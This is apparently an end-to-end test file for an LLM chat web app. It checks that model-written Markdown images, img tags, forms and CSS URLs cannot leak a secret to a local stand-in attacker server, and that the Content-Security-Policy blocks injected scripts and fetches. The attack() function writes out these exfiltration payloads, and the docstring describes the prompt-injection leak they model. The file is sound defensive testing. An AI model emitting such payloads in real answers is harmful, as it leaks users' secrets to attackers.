"""Model text cannot make the browser fetch, submit or style anything (issue 9, finding 7).

A prompt-injected model (or a tool's output it repeats) can write a Markdown image whose
URL carries a secret; the browser fetching it is the leak. A listener on 127.0.0.1 stands
for the attacker's server and counts what reaches it.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
from playwright.async_api import Page, expect

from burrow.api.csp import app_policy
from burrow.config import Settings
from burrow.llm.base import ScriptedTurn
from burrow.llm.scripted import ScriptedProvider
from tests.api.harness import running_server
from tests.e2e.test_workspace import open_app, serving


class Listener(http.server.ThreadingHTTPServer):
    """The attacker's server: records the path of every request that reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@contextlib.contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    thread = threading.Thread(target=listener.serve_forever, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        listener.shutdown()
        listener.server_close()


def attack(leak: str) -> str:
    """An answer that tries four ways to reach `leak` with the secret in the URL."""
    return (
        "Here is the chart you asked for:\n\n"
        f"![chart]({leak}/markdown?d=SECRET)\n\n"
        f'<img src="{leak}/raw?d=SECRET" alt="raw">\n\n'
        f'<form action="{leak}/form" method="get"><input name="d" value="SECRET">'
        "<button>Continue</button></form>\n\n"
        f'<p style="background-image:url({leak}/style?d=SECRET)">Styled text</p>\n'
    )


async def test_model_text_fetches_nothing_and_keeps_no_form_or_style(
    tmp_path: Path, page: Page
) -> None:
    with listening() as listener:
        provider = ScriptedProvider([ScriptedTurn(text=attack(listener.base))])
        async with serving(tmp_path, page, provider) as srv:
            cid = await srv.create_conversation("exfiltration")
            await open_app(page, srv, f"/c/{cid}")
            await page.get_by_label("Message").fill("draw the chart")
            await page.get_by_label("Message").press("Enter")
            await expect(page.locator(".run-end")).to_contain_text("Done")
            message = page.locator(".assistant .markdown").last
            await expect(message).to_contain_text("Styled text")
            await page.wait_for_timeout(500)  # time to fetch, were anything allowed to
            assert listener.hits == []
            await expect(message).to_contain_text("Continue")  # the button's text, as text

            link = message.get_by_role("link", name="image: chart")
            await expect(link).to_have_attribute("href", f"{listener.base}/markdown?d=SECRET")
            await expect(message.get_by_role("link", name="image: raw")).to_be_visible()
            assert await message.locator("img, form, input, button, [style]").count() == 0

            # Reloaded (the replay path renders it again), then given time to fetch.
            await page.reload()
            await expect(page.locator(".assistant .markdown").last).to_contain_text("Styled")
            await page.wait_for_timeout(500)
            assert listener.hits == []


async def test_the_policy_blocks_what_gets_past_the_sanitizer(
    tmp_path: Path, page: Page, csp_violations: list[str]
) -> None:
    """Defence in depth: markup injected into the page by any other way loads nothing."""
    with listening() as listener:
        async with serving(tmp_path, page, ScriptedProvider([])) as srv:
            await open_app(page, srv)
            await page.evaluate(
                """(leak) => {
                    document.body.insertAdjacentHTML("beforeend",
                        `<img src="${leak}/img"><iframe src="${leak}/frame"></iframe>`);
                    const script = document.createElement("script");
                    script.src = `${leak}/script`;
                    document.body.append(script);
                    fetch(`${leak}/fetch`).catch(() => {});
                }""",
                listener.base,
            )
            directives = ("img-src", "frame-src", "script-src", "connect-src")
            for _ in range(50):  # the browser reports each refusal on its console
                if all(d in " ".join(csp_violations) for d in directives):
                    break
                await page.wait_for_timeout(100)
            assert all(d in " ".join(csp_violations) for d in directives), csp_violations
            await page.wait_for_timeout(300)
            assert listener.hits == []
            csp_violations.clear()  # provoked on purpose


async def test_policy_headers_on_the_ui_and_the_api(tmp_path: Path) -> None:
    async with running_server(tmp_path, lambda: ScriptedProvider([]), preview=True) as srv:
        async with httpx.AsyncClient(base_url=srv.base_url) as anonymous:
            ui = await anonymous.get("/c/some-conversation")
            api = await anonymous.get("/api/health")
            refused = await anonymous.get("/api/me")
        policy = ui.headers["content-security-policy"]
        assert f"frame-src http://*.preview.localhost:{srv.preview_port};" in policy
        for directive in (
            "script-src 'self';",
            "img-src 'self' data: blob:;",
            "connect-src 'self';",
            "form-action 'self';",
            "base-uri 'none';",
            "object-src 'none';",
            "frame-ancestors 'none'",
        ):
            assert directive in policy, directive
        for response in (api, refused):
            assert response.headers["content-security-policy"].startswith("default-src 'none'")
            assert response.headers["x-content-type-options"] == "nosniff"
        assert refused.status_code == 401


def test_a_preview_domain_is_framed_as_configured(tmp_path: Path) -> None:
    def frame_src(domain: str) -> str:
        policy = app_policy(Settings(data_dir=tmp_path, preview_domain=domain))
        return next(d for d in policy.split("; ") if d.startswith("frame-src"))

    assert frame_src("preview.example.com") == "frame-src https://*.preview.example.com"
    assert frame_src("http://preview.lan:8421") == "frame-src http://*.preview.lan:8421"
